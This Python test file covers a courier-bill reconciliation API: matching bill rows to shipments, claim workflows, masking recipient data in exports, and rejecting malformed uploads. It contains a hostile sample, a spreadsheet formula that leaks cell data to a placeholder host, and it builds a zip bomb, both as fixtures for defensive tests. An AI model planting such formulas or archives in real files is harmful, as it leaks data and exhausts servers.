"""L3 through the API: a bill uploaded, its differences listed and resolved with their
history, the claim list exported with the recipients masked, mappings and rates kept;
bad and hostile files are refused with a typed error and write nothing."""

from __future__ import annotations

import io
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from tests.wms.reconciliation.conftest import RECIPIENT, bill_csv, utc
from wms.extensions import db
from wms.models.reconciliation import ReconciliationDifference, ReconciliationRun

BILLS = "/api/v1/reconciliation/courier-bills"
HEADER = ["运单号", "订单号", "计费重量(kg)", "运费", "收件省份"]


def _upload(caller, content: bytes, name: str = "zto.csv", courier: str = "ZTO", cycle: str = "2026-11"):
    return caller.post(BILLS, data={"courier": courier, "cycle": cycle, "file": (io.BytesIO(content), name)},
                       content_type="multipart/form-data")


def _put(api, role: str, url: str, json):
    caller = api.as_(role)
    return caller.client.put(url, json=json, headers=caller._headers(None))


@pytest.fixture
def shipped(app, parcels):
    with app.app_context():
        parcels.ship("ZTO", "730000000001", "SO-1", 1000, utc(2026, 11, 3, 2))
        parcels.ship("ZTO", "730000000002", "SO-2", 500, utc(2026, 11, 4, 2))
        parcels.ship("ZTO", "730000000003", "SO-3", 1000, utc(2026, 11, 5, 2))


def test_L3_a_bill_uploaded_is_matched_listed_resolved_and_claimed(api, shipped):
    clerk = api.as_("clerk")
    rates = _put(api, "clerk", "/api/v1/reconciliation/couriers/ZTO/rates", {"rates": [
        {"province": "浙江省", "first_weight_kg": 1, "first_price": 8, "additional_price": 4, "discount_percent": 0}]})
    assert rates.status_code == 200, rates.get_json()
    assert rates.get_json()["rates"][0]["province"] == "浙江"
    content = bill_csv(HEADER, [["730000000001", "SO-1", "1", "8", "浙江"], ["730000000002", "SO-2", "3", "16", "浙江"],
                                ["730000000002", "SO-2", "3", "16", "浙江"], ["739999999999", "", "1", "8", "广东"]])
    response = _upload(clerk, content)
    assert response.status_code == 201, response.get_json()
    run = response.get_json()
    assert run["summary"]["by_type"] == {"billed_not_shipped": 1, "billed_twice": 1, "shipped_not_billed": 1,
                                         "weight_over": 1}
    listed = clerk.get("/api/v1/reconciliation/differences?courier=ZTO&type=weight_over").get_json()
    assert listed["total"] == 1
    over = listed["items"][0]
    assert over["key"] == "730000000002" and over["amount"] == "8.00" and "claim" in over["actions"]
    changed = clerk.post(f"/api/v1/reconciliation/differences/{over['id']}/status",
                         json={"status": "claimed", "note": "scale ticket 0.50 kg"})
    assert changed.status_code == 200, changed.get_json()
    body = changed.get_json()
    assert body["status"] == "claimed" and body["changed_by"] == "clerk"
    assert body["history"][0]["from_status"] == "open" and body["history"][0]["note"] == "scale ticket 0.50 kg"
    illegal = clerk.post(f"/api/v1/reconciliation/differences/{over['id']}/status", json={"status": "explained"})
    assert illegal.status_code == 409 and illegal.get_json()["code"] == "illegal_transition"
    missing = clerk.post("/api/v1/reconciliation/differences/999999/status", json={"status": "resolved"})
    assert missing.status_code == 404 and missing.get_json()["code"] == "difference_not_found"

    export = clerk.get("/api/v1/reconciliation/claims?courier=ZTO&cycle=2026-11&format=xlsx")
    assert export.status_code == 200
    sheet = load_workbook(io.BytesIO(export.data)).active
    cells = [str(c) for row in sheet.iter_rows(values_only=True) for c in row if c is not None]
    text = " ".join(cells)
    assert "730000000002" in text and "739999999999" in text and "张**" in text and "138****8000" in text
    assert all(secret not in text for secret in RECIPIENT)
    assert "730000000003" not in text  # shipped but not billed is no claim to the courier


def test_L3_a_clerks_note_quoting_the_recipient_is_masked_on_the_page_and_in_the_claim_list(api, shipped):
    from pypdf import PdfReader

    clerk = api.as_("clerk")
    content = bill_csv(HEADER, [["730000000001", "SO-1", "1", "8", "浙江"],
                                ["730000000002", "SO-2", "3", "16", "浙江"]])
    assert _upload(clerk, content).status_code == 201
    over = clerk.get("/api/v1/reconciliation/differences?courier=ZTO&type=weight_over").get_json()["items"][0]
    note = f"收件人{RECIPIENT[0]} 电话{RECIPIENT[1]} 说没收到"
    changed = clerk.post(f"/api/v1/reconciliation/differences/{over['id']}/status",
                         json={"status": "claimed", "note": note})
    assert changed.status_code == 200, changed.get_json()
    masked = "收件人张** 电话138****8000 说没收到"
    assert changed.get_json()["note"] == masked and changed.get_json()["history"][-1]["note"] == masked
    listed = clerk.get("/api/v1/reconciliation/differences?courier=ZTO&type=weight_over").get_json()["items"][0]
    assert listed["note"] == masked
    sheet = load_workbook(io.BytesIO(clerk.get("/api/v1/reconciliation/claims?courier=ZTO&format=xlsx").data)).active
    xlsx = " ".join(str(c) for row in sheet.iter_rows(values_only=True) for c in row if c is not None)
    pdf = PdfReader(io.BytesIO(clerk.get("/api/v1/reconciliation/claims?courier=ZTO&format=pdf").data))
    pdf_text = "\n".join(page.extract_text() for page in pdf.pages)
    for text in (xlsx, pdf_text):
        assert "138****8000 说没收到" in text
        assert RECIPIENT[0] not in text and RECIPIENT[1] not in text


def test_L3_a_tracking_number_shaped_like_a_formula_stays_text_in_the_claim_list(api, shipped):
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    clerk = api.as_("clerk")
    assert _upload(clerk, bill_csv(HEADER, [[formula, "", "1", "8", "浙江"]])).status_code == 201
    export = clerk.get("/api/v1/reconciliation/claims?courier=ZTO&cycle=2026-11&format=xlsx")
    sheet = load_workbook(io.BytesIO(export.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(export.data)).read("xl/worksheets/sheet1.xml")


def test_L3_only_a_role_that_reconciles_may_upload(api, shipped):
    response = _upload(api.as_("picker"), bill_csv(HEADER, [["730000000001", "", "1", "8", ""]]))
    assert response.status_code == 403


@pytest.mark.parametrize(("name", "content", "reason"), [
    ("bill.csv", bill_csv(["运单号", "重量"], [["730000000001", "1"]]), "missing_columns"),
    ("bill.csv", bill_csv(HEADER, []), "empty"),  # a header alone would resolve every difference
    ("bill.csv", bill_csv(HEADER, [["730000000001", "", "1", "8", ""], ["730000000002", "", "heavy", "8", ""],
                                   ["", "", "1", "¥x", ""]]), "bad_rows"),
    ("bill.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "file_type"),
    ("bill.csv", "运单号,计费重量,运费\n".encode("utf-16"), "encoding"),
    ("bill.xlsx", b"PK\x03\x04 not really a zip", "corrupt"),
])
def test_L3_a_bad_or_hostile_bill_is_refused_and_nothing_is_written(app, api, shipped, name, content, reason):
    response = _upload(api.as_("clerk"), content, name)
    assert response.status_code == 422, response.get_json()
    body = response.get_json()
    assert body["code"] == "courier_bill_rejected" and body["errors"]["reason"] == reason
    if reason == "bad_rows":
        assert [r["row"] for r in body["errors"]["rows"]] == [3, 4]
    with app.app_context():
        assert db.session.execute(sa.select(sa.func.count()).select_from(ReconciliationRun)).scalar_one() == 0
        assert db.session.execute(sa.select(sa.func.count()).select_from(ReconciliationDifference)).scalar_one() == 0


def test_L3_a_zip_bomb_is_refused_before_it_is_unpacked(app, api, shipped):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<row>" + b"0" * 30_000_000)
    response = _upload(api.as_("clerk"), out.getvalue(), "bomb.xlsx")
    assert response.status_code == 422 and response.get_json()["errors"]["reason"] == "compression_ratio"


def test_L3_a_bad_cycle_or_courier_is_refused(api, shipped):
    content = bill_csv(HEADER, [["730000000001", "", "1", "8", ""]])
    assert _upload(api.as_("clerk"), content, cycle="2026-13").get_json()["code"] == "invalid_input"
    assert _upload(api.as_("clerk"), content, courier="NOPE").get_json()["code"] == "courier_not_found"


def test_L3_a_saved_mapping_is_read_back_and_used(api, shipped):
    got = api.as_("clerk").get("/api/v1/reconciliation/couriers/SF/bill-mapping").get_json()
    assert got["source"] == "preset" and got["keys_on_order_number"] is True and "运单号" in got["columns"][
        "tracking_number"]
    saved = _put(api, "clerk", "/api/v1/reconciliation/couriers/ZTO/bill-mapping",
                 {"columns": {"tracking_number": ["面单号"], "weight_kg": ["kg"], "fee": ["金额"]}})
    assert saved.status_code == 200 and saved.get_json()["source"] == "saved"
    response = _upload(api.as_("clerk"), bill_csv(["面单号", "kg", "金额"], [["730000000001", "1", "8"]]))
    assert response.status_code == 201
    assert response.get_json()["summary"]["by_type"] == {"shipped_not_billed": 2}
    bad = _put(api, "clerk", "/api/v1/reconciliation/couriers/ZTO/bill-mapping", {"columns": {"fee": ["x"]}})
    assert bad.status_code == 422


def test_L3_the_claim_list_as_pdf_has_chinese_text_the_tracking_numbers_and_no_personal_data(api, shipped):
    from pypdf import PdfReader

    clerk = api.as_("clerk")
    content = bill_csv(HEADER, [["730000000001", "SO-1", "1", "8", "浙江"], ["730000000002", "SO-2", "3", "16", "浙江"],
                                ["730000000002", "SO-2", "3", "16", "浙江"], ["739999999999", "", "1", "8", "广东"]])
    assert _upload(clerk, content).status_code == 201
    export = clerk.get("/api/v1/reconciliation/claims?courier=ZTO&cycle=2026-11&format=pdf")
    assert export.status_code == 200, export.get_json()
    assert export.content_type == "application/pdf" and export.data.startswith(b"%PDF")
    assert 'filename="claims-ZTO-2026-11.pdf"' in export.headers["Content-Disposition"]
    reader = PdfReader(io.BytesIO(export.data))
    text = "\n".join(page.extract_text() for page in reader.pages)
    for words in ("索赔清单", "运单号", "计费重量超出", "重复计费", "有账单无发货", "730000000002", "739999999999",
                  "SO-2", "张**", "138****8000", "第 1 页"):
        assert words in text, words
    assert all(secret not in text for secret in RECIPIENT)
    assert "730000000003" not in text  # shipped but not billed is no claim to the courier
    fonts = {str(font.get_object()["/BaseFont"]) for page in reader.pages
             for font in page["/Resources"]["/Font"].values()}
    assert any("WenQuanYi" in f or "CJK" in f or "Droid" in f for f in fonts), fonts


def test_L3_a_claim_list_in_another_format_is_refused(api, shipped):
    response = api.as_("clerk").get("/api/v1/reconciliation/claims?courier=ZTO&cycle=2026-11&format=docx")
    assert response.status_code == 422 and response.get_json()["code"] == "validation_failed"


def test_L3_a_claim_list_of_a_cycle_that_is_no_cycle_is_refused_as_the_upload_refuses_it(api, shipped):
    claims = api.as_("clerk").get("/api/v1/reconciliation/claims?courier=ZTO&cycle=2026-13&format=xlsx")
    upload = _upload(api.as_("clerk"), bill_csv(HEADER, [["730000000001", "SO-1", "1", "8", "浙江"]]), cycle="2026-13")
    assert claims.status_code == upload.status_code == 422
    assert claims.get_json()["code"] == upload.get_json()["code"]


def test_L3_a_rate_table_naming_no_province_is_refused_and_the_table_kept(api, shipped):
    url = "/api/v1/reconciliation/couriers/ZTO/rates"
    row = {"first_weight_kg": 1, "first_price": 8, "additional_price": 4, "discount_percent": 0}
    saved = _put(api, "clerk", url, {"rates": [{"province": "浙江省", **row}, {"province": "*", **row}]})
    assert saved.status_code == 200
    refused = _put(api, "clerk", url, {"rates": [{"province": "火星", **row}]})
    assert refused.status_code == 422 and refused.get_json()["code"] == "invalid_input"
    kept = api.as_("clerk").get(url).get_json()["rates"]
    assert [r["province"] for r in kept] == ["*", "浙江"]
